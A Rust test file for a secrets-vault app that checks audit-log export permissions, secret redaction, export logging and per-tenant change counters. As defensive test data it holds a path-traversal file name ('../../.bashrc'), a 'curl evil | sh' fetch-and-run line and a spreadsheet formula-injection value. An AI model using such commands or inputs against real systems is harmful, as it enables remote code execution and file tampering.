//! What a member gets of the trail through real IPC. Audit → Export → Save file: the
//! backend writes the events itself (the webview can no longer hand it text to write),
//! only for a member who may audit, with the filter the screen shows, and the export
//! is in the trail. The change number the app polls: their own workspaces' only.

use serde_json::{json, Value};

use super::{scope, set_input, unlock_args, Harness};

const OWNER_PASS: &str = "owner pass phrase";

fn saved(h: &Harness, filter: Value, format: &str) -> (String, i64) {
    let out = h.ok(
        "save_audit_events",
        json!({ "workspace": "default", "filter": filter, "format": format }),
    );
    let path = out["path"].as_str().unwrap().to_string();
    assert!(
        path.starts_with(h.dir.path().join("Downloads").to_str().unwrap()),
        "{path}"
    );
    (
        std::fs::read_to_string(&path).unwrap(),
        out["events"].as_i64().unwrap(),
    )
}

fn no_filter() -> Value {
    json!({ "actor": null, "action": null, "secret": null, "since": null })
}

#[test]
fn the_backend_writes_the_events_it_reads_for_an_auditor_and_audits_the_export() {
    let h = Harness::new();
    h.ok(
        "create_vault",
        json!({ "owner": "alice", "passphrase": OWNER_PASS }),
    );
    let value = "sk_live_export_must_not_hold_this_51";
    h.ok(
        "set_secret",
        set_input("PAYMENTS", "development", value, None),
    );
    h.ok(
        "reveal_secret",
        json!({ "scope": scope(), "name": "PAYMENTS", "environment": "development", "reason": "=HYPERLINK(\"x\")" }),
    );
    let shown = h.ok(
        "audit_events",
        json!({ "workspace": "default", "filter": no_filter() }),
    );
    let shown = shown.as_array().unwrap();

    // CSV: the screen's columns, one row per event it shows, nothing secret.
    let (csv, n) = saved(&h, no_filter(), "csv");
    assert_eq!(n as usize, shown.len());
    let mut lines = csv.split("\r\n");
    assert_eq!(
        lines.next(),
        Some("id,time,actor,action,outcome,workspace,project,environment,secret,detail")
    );
    assert_eq!(csv.matches("\r\n").count(), shown.len() + 1, "{csv}");
    assert!(csv.contains(",secret.reveal,ok,default,default,development,PAYMENTS,"));
    assert!(!csv.contains(value));

    // JSON, filtered as the screen is: exactly the events it lists.
    let reveals =
        json!({ "actor": null, "action": "secret.reveal", "secret": null, "since": null });
    let (text, n) = saved(&h, reveals.clone(), "json");
    let listed: Value = serde_json::from_str(&text).unwrap();
    let on_screen = h.ok(
        "audit_events",
        json!({ "workspace": "default", "filter": reveals }),
    );
    assert_eq!(n, 1);
    assert_eq!(listed, on_screen, "the file holds what the screen lists");
    assert!(!text.contains(value));

    // Each save is in the trail, with its format, count and filter.
    let exports = h.ok(
        "audit_events",
        json!({ "workspace": "default", "filter": { "actor": null, "action": "audit.export", "secret": null, "since": null } }),
    );
    let exports = exports.as_array().unwrap();
    assert_eq!(exports.len(), 2, "{exports:?}");
    assert_eq!(exports[0]["detail"]["format"], json!("csv"));
    assert_eq!(exports[1]["detail"]["format"], json!("json"));
    assert_eq!(exports[1]["detail"]["events"], json!(1));
}

#[test]
fn a_member_who_may_not_audit_saves_nothing_and_text_from_the_webview_is_not_written() {
    let h = Harness::new();
    h.ok(
        "create_vault",
        json!({ "owner": "alice", "passphrase": OWNER_PASS }),
    );
    h.ok("add_member", json!({ "workspace": "default", "name": "dev", "role": "developer", "passphrase": "dev pass phrase 1" }));
    h.ok("lock", json!({}));
    h.ok("unlock", unlock_args("dev", "dev pass phrase 1"));
    let denied = h.err(
        "save_audit_events",
        json!({ "workspace": "default", "filter": no_filter(), "format": "csv" }),
    );
    assert_eq!(denied["code"], json!("denied"), "{denied}");
    let downloads = h.dir.path().join("Downloads");
    let files = std::fs::read_dir(&downloads)
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(files, 0, "nothing was written");

    // The old command that wrote whatever text it was given, under any name, is gone.
    let gone = h
        .call(
            "save_export",
            json!({ "fileName": "../../.bashrc", "text": "curl evil | sh" }),
        )
        .unwrap_err();
    assert!(
        gone.to_string().contains("not found") || gone.to_string().contains("not allowed"),
        "{gone}"
    );
}

/// Issue 17 item 4: the change number the app polls moves with changes in the member's
/// own workspaces, not with another tenant's.
#[test]
fn the_change_number_moves_only_with_the_members_own_workspaces() {
    use coffer_core::access::Role;
    use coffer_core::value::Passphrase;

    let h = Harness::new();
    h.ok(
        "create_vault",
        json!({ "owner": "alice", "passphrase": OWNER_PASS }),
    );
    h.ok("add_member", json!({ "workspace": "default", "name": "dev", "role": "developer", "passphrase": "dev pass phrase 1" }));
    {
        // alice opens a second tenant, with its own owner, from another process.
        let mut s = coffer_core::Vault::open(&h.vault_path())
            .unwrap()
            .unlock("alice", &Passphrase::new(OWNER_PASS.into()))
            .unwrap();
        s.create_workspace("acme").unwrap();
        s.add_member(
            "acme",
            "olga",
            Role::Owner,
            &Passphrase::new("olga pass phrase 1".into()),
        )
        .unwrap();
    }
    h.ok("lock", json!({}));
    h.ok("unlock", unlock_args("olga", "olga pass phrase 1"));
    let olga_sees = || h.ok("vault_status", json!({}))["change"].clone();
    let before = olga_sees();
    // Busy in default, where olga has no role.
    {
        let mut s = coffer_core::Vault::open(&h.vault_path())
            .unwrap()
            .unlock("alice", &Passphrase::new(OWNER_PASS.into()))
            .unwrap();
        for name in ["A", "B", "C"] {
            s.set_secret(
                &coffer_core::Scope::default(),
                coffer_core::SetRequest {
                    name: name.into(),
                    environment: None,
                    value: coffer_core::ValueSource::Generate {
                        length: 32,
                        alphabet: "alnum".into(),
                    },
                    description: None,
                    kind: None,
                    scope: None,
                    expires_in_ms: None,
                    rotate_every_ms: None,
                    if_version: None,
                    allowed_hosts: None,
                },
            )
            .unwrap();
        }
    }
    assert_eq!(
        olga_sees(),
        before,
        "default's activity moved acme's change number"
    );
    // A change in acme moves it, by exactly acme's new events: the size of the jump
    // says nothing of default's activity in between.
    let acme_events = || {
        h.ok("audit_events", json!({ "workspace": "acme", "filter": {} }))
            .as_array()
            .unwrap()
            .len() as f64
    };
    let events_before = acme_events();
    h.ok("add_member", json!({ "workspace": "acme", "name": "oscar", "role": "viewer", "passphrase": "oscar pass phrase 1" }));
    let moved = olga_sees().as_f64().unwrap() - before.as_f64().unwrap();
    assert!(moved > 0.0);
    assert_eq!(moved, acme_events() - events_before);
}
